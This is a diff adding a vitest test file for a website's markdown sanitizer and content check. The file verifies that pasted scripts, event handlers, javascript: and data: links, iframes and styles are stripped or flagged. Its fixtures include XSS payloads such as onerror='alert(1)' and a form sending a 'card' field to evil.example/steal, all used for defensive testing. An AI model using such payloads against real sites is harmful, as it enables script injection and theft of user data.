@@ -1,0 +1,134 @@
+import { markdownToHtml } from 'satteri';
+import { describe, expect, it } from 'vitest';
+import { bodyMarkupProblems, textProblems } from '#/content-check/markup.ts';
+import { sanitizePlugin } from '#/lib/markdown-sanitize.ts';
+
+/** A body as the site renders it: raw HTML parsed, then kept as far as the allow-list allows. */
+const rendered = async (markdown: string) =>
+  (await markdownToHtml(markdown, { hastPlugins: [sanitizePlugin], features: { rawHtml: true } })).html;
+
+const file = 'src/content/blog/post.md';
+/** The check's problems for a body that starts on line 5 of its file (after the front matter). */
+const problems = (markdown: string) => bodyMarkupProblems(file, markdown, 5);
+
+/** Each construct that can run or load something, written as people paste it, and the words its message starts with. */
+const refused: [string, string, RegExp][] = [
+  ['a script', 'Intro.\n\n<script>alert("hi")</script>\n', /^<script> is pasted code/],
+  [
+    'an event handler',
+    'A photo <img src="x.jpg" onerror="alert(1)"> here.',
+    /^onerror="alert\(1\)" in <img> is pasted code/,
+  ],
+  ['a javascript: link (Markdown)', '[Click](javascript:alert(1))', /^the address "javascript:alert\(1\)" is code/],
+  [
+    'a javascript: link (HTML)',
+    '<a href="javascript:alert(1)">Click</a>',
+    /^the address "javascript:alert\(1\)" is code/,
+  ],
+  ['a data: picture', '![A dot](data:image/png;base64,iVBORw0KGgo=)', /^the address "data:image\/png/],
+  ['a form', '<form action="https://evil.example/steal"><input name="card"></form>', /^<form> is not allowed/],
+  [
+    'a frame',
+    '<iframe src="https://www.example.org/widget"></iframe>',
+    /^<iframe> from www\.example\.org is pasted embed code/,
+  ],
+  ['an object', '<object data="movie.swf"></object>', /^<object> is not allowed/],
+  ['an embed', '<embed src="movie.swf">', /^<embed> is not allowed/],
+  ['a style element', '<style>body { display: none }</style>', /^<style> is not allowed/],
+  [
+    'a style attribute',
+    '<p style="position:fixed;inset:0">Look</p>',
+    /^style="position:fixed;inset:0" in <p> is not allowed/,
+  ],
+];
+
+describe('the allow-list keeps no live code from a body', () => {
+  it.each(refused)('%s is removed from the page', async (_name, markdown) => {
+    const html = await rendered(markdown);
+    expect(html).not.toMatch(/<(script|form|iframe|object|embed|style)\b|\son\w+=|javascript:|data:|style=/i);
+  });
+
+  it('keeps the harmless inline markup people write', async () => {
+    const markdown =
+      'Some <b>bold</b>, <em>stress</em>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="National Health Service">NHS</abbr>, <mark>note</mark>,<br>' +
+      '[a page](/services), [mail](mailto:a@b.co), [call](tel:+441632960000) and [NHS](https://www.nhs.uk).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
+    const html = await rendered(markdown);
+    for (const kept of [
+      '<b>bold</b>',
+      '<em>stress</em>',
+      '<sub>2</sub>',
+      '<sup>2</sup>',
+      '<abbr title="National Health Service">NHS</abbr>',
+      '<mark>note</mark>',
+      '<br>',
+      'href="/services"',
+      'href="mailto:a@b.co"',
+      'href="tel:+441632960000"',
+      'href="https://www.nhs.uk"',
+      '<td>1</td>',
+    ])
+      expect(html).toContain(kept);
+  });
+});
+
+describe('the content check names each refused construct, its line and what to do', () => {
+  it.each(refused)('%s', (_name, markdown, message) => {
+    const [first] = problems(markdown);
+    expect(first?.message).toMatch(message);
+    const lineInBody = markdown.split('\n').findIndex((line) => /[<![]/.test(line));
+    expect(first).toMatchObject({ file, field: 'text', line: 5 + lineInBody });
+  });
+
+  it('points to the line inside a multi-line block of pasted code', () => {
+    const [problem] = problems(
+      '<div class="embed">\n  <p>Watch</p>\n  <script src="https://cdn.example/x.js"></script>\n</div>\n',
+    );
+    expect(problem).toMatchObject({ line: 5 });
+    const lines = problems('<div>\n<p>Watch</p>\n<script>x()</script>\n</div>\n').map(({ line }) => line);
+    expect(lines).toEqual([7]);
+  });
+
+  it('turns a pasted YouTube player into the way to do it: its link on a line of its own', () => {
+    const [problem] = problems(
+      '<iframe width="560" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
+    );
+    expect(problem?.message).toMatch(/^a pasted YouTube player \(<iframe>\) cannot be shown/);
+    expect(problem?.message).toContain('on a line of its own (https://www.youtube.com/watch?v=dQw4w9WgXcQ)');
+  });
+
+  it('refuses a link on its own line to a video host the site cannot play, naming the ones it can', () => {
+    const [problem] = problems('Intro.\n\nhttps://www.dailymotion.com/video/x8abc12\n');
+    expect(problem).toMatchObject({ line: 7 });
+    expect(problem?.message).toMatch(/is a video the site cannot play\. Videos play from YouTube or Vimeo only/);
+    expect(problems('See [this video](https://www.dailymotion.com/video/x8abc12) too.')).toEqual([]);
+  });
+
+  it('has nothing to say about plain text, links, pictures and a supported video', () => {
+    expect(
+      problems(
+        'Some *text* with <b>bold</b> and [a link](https://www.nhs.uk).\n\n![A view](./view.jpg)\n\nhttps://youtu.be/dQw4w9WgXcQ\n\n[A talk](https://vimeo.com/76979871)\n',
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('text fields (titles, YAML text, settings) are checked with the same allow-list', () => {
+  it('refuses pasted code and code addresses', () => {
+    expect(textProblems('Hello <script>alert(1)</script>')[0]).toMatch(/^<script> is pasted code/);
+    expect(textProblems('<img src=x onerror=alert(1)>')[0]).toMatch(/^onerror="alert\(1\)" in <img>/);
+    expect(textProblems('javascript:alert(1)')[0]).toMatch(/^the address "javascript:alert\(1\)" is code/);
+  });
+
+  it('leaves ordinary text alone, ampersands and angle brackets included', () => {
+    for (const text of [
+      "O'Brien & Daughters",
+      'Ages 5 < 11',
+      'I <3 calm',
+      'https://www.nhs.uk',
+      'Sleep: a guide',
+      'Data: what I keep and why',
+    ]) {
+      expect(textProblems(text), text).toEqual([]);
+    }
+  });
+});
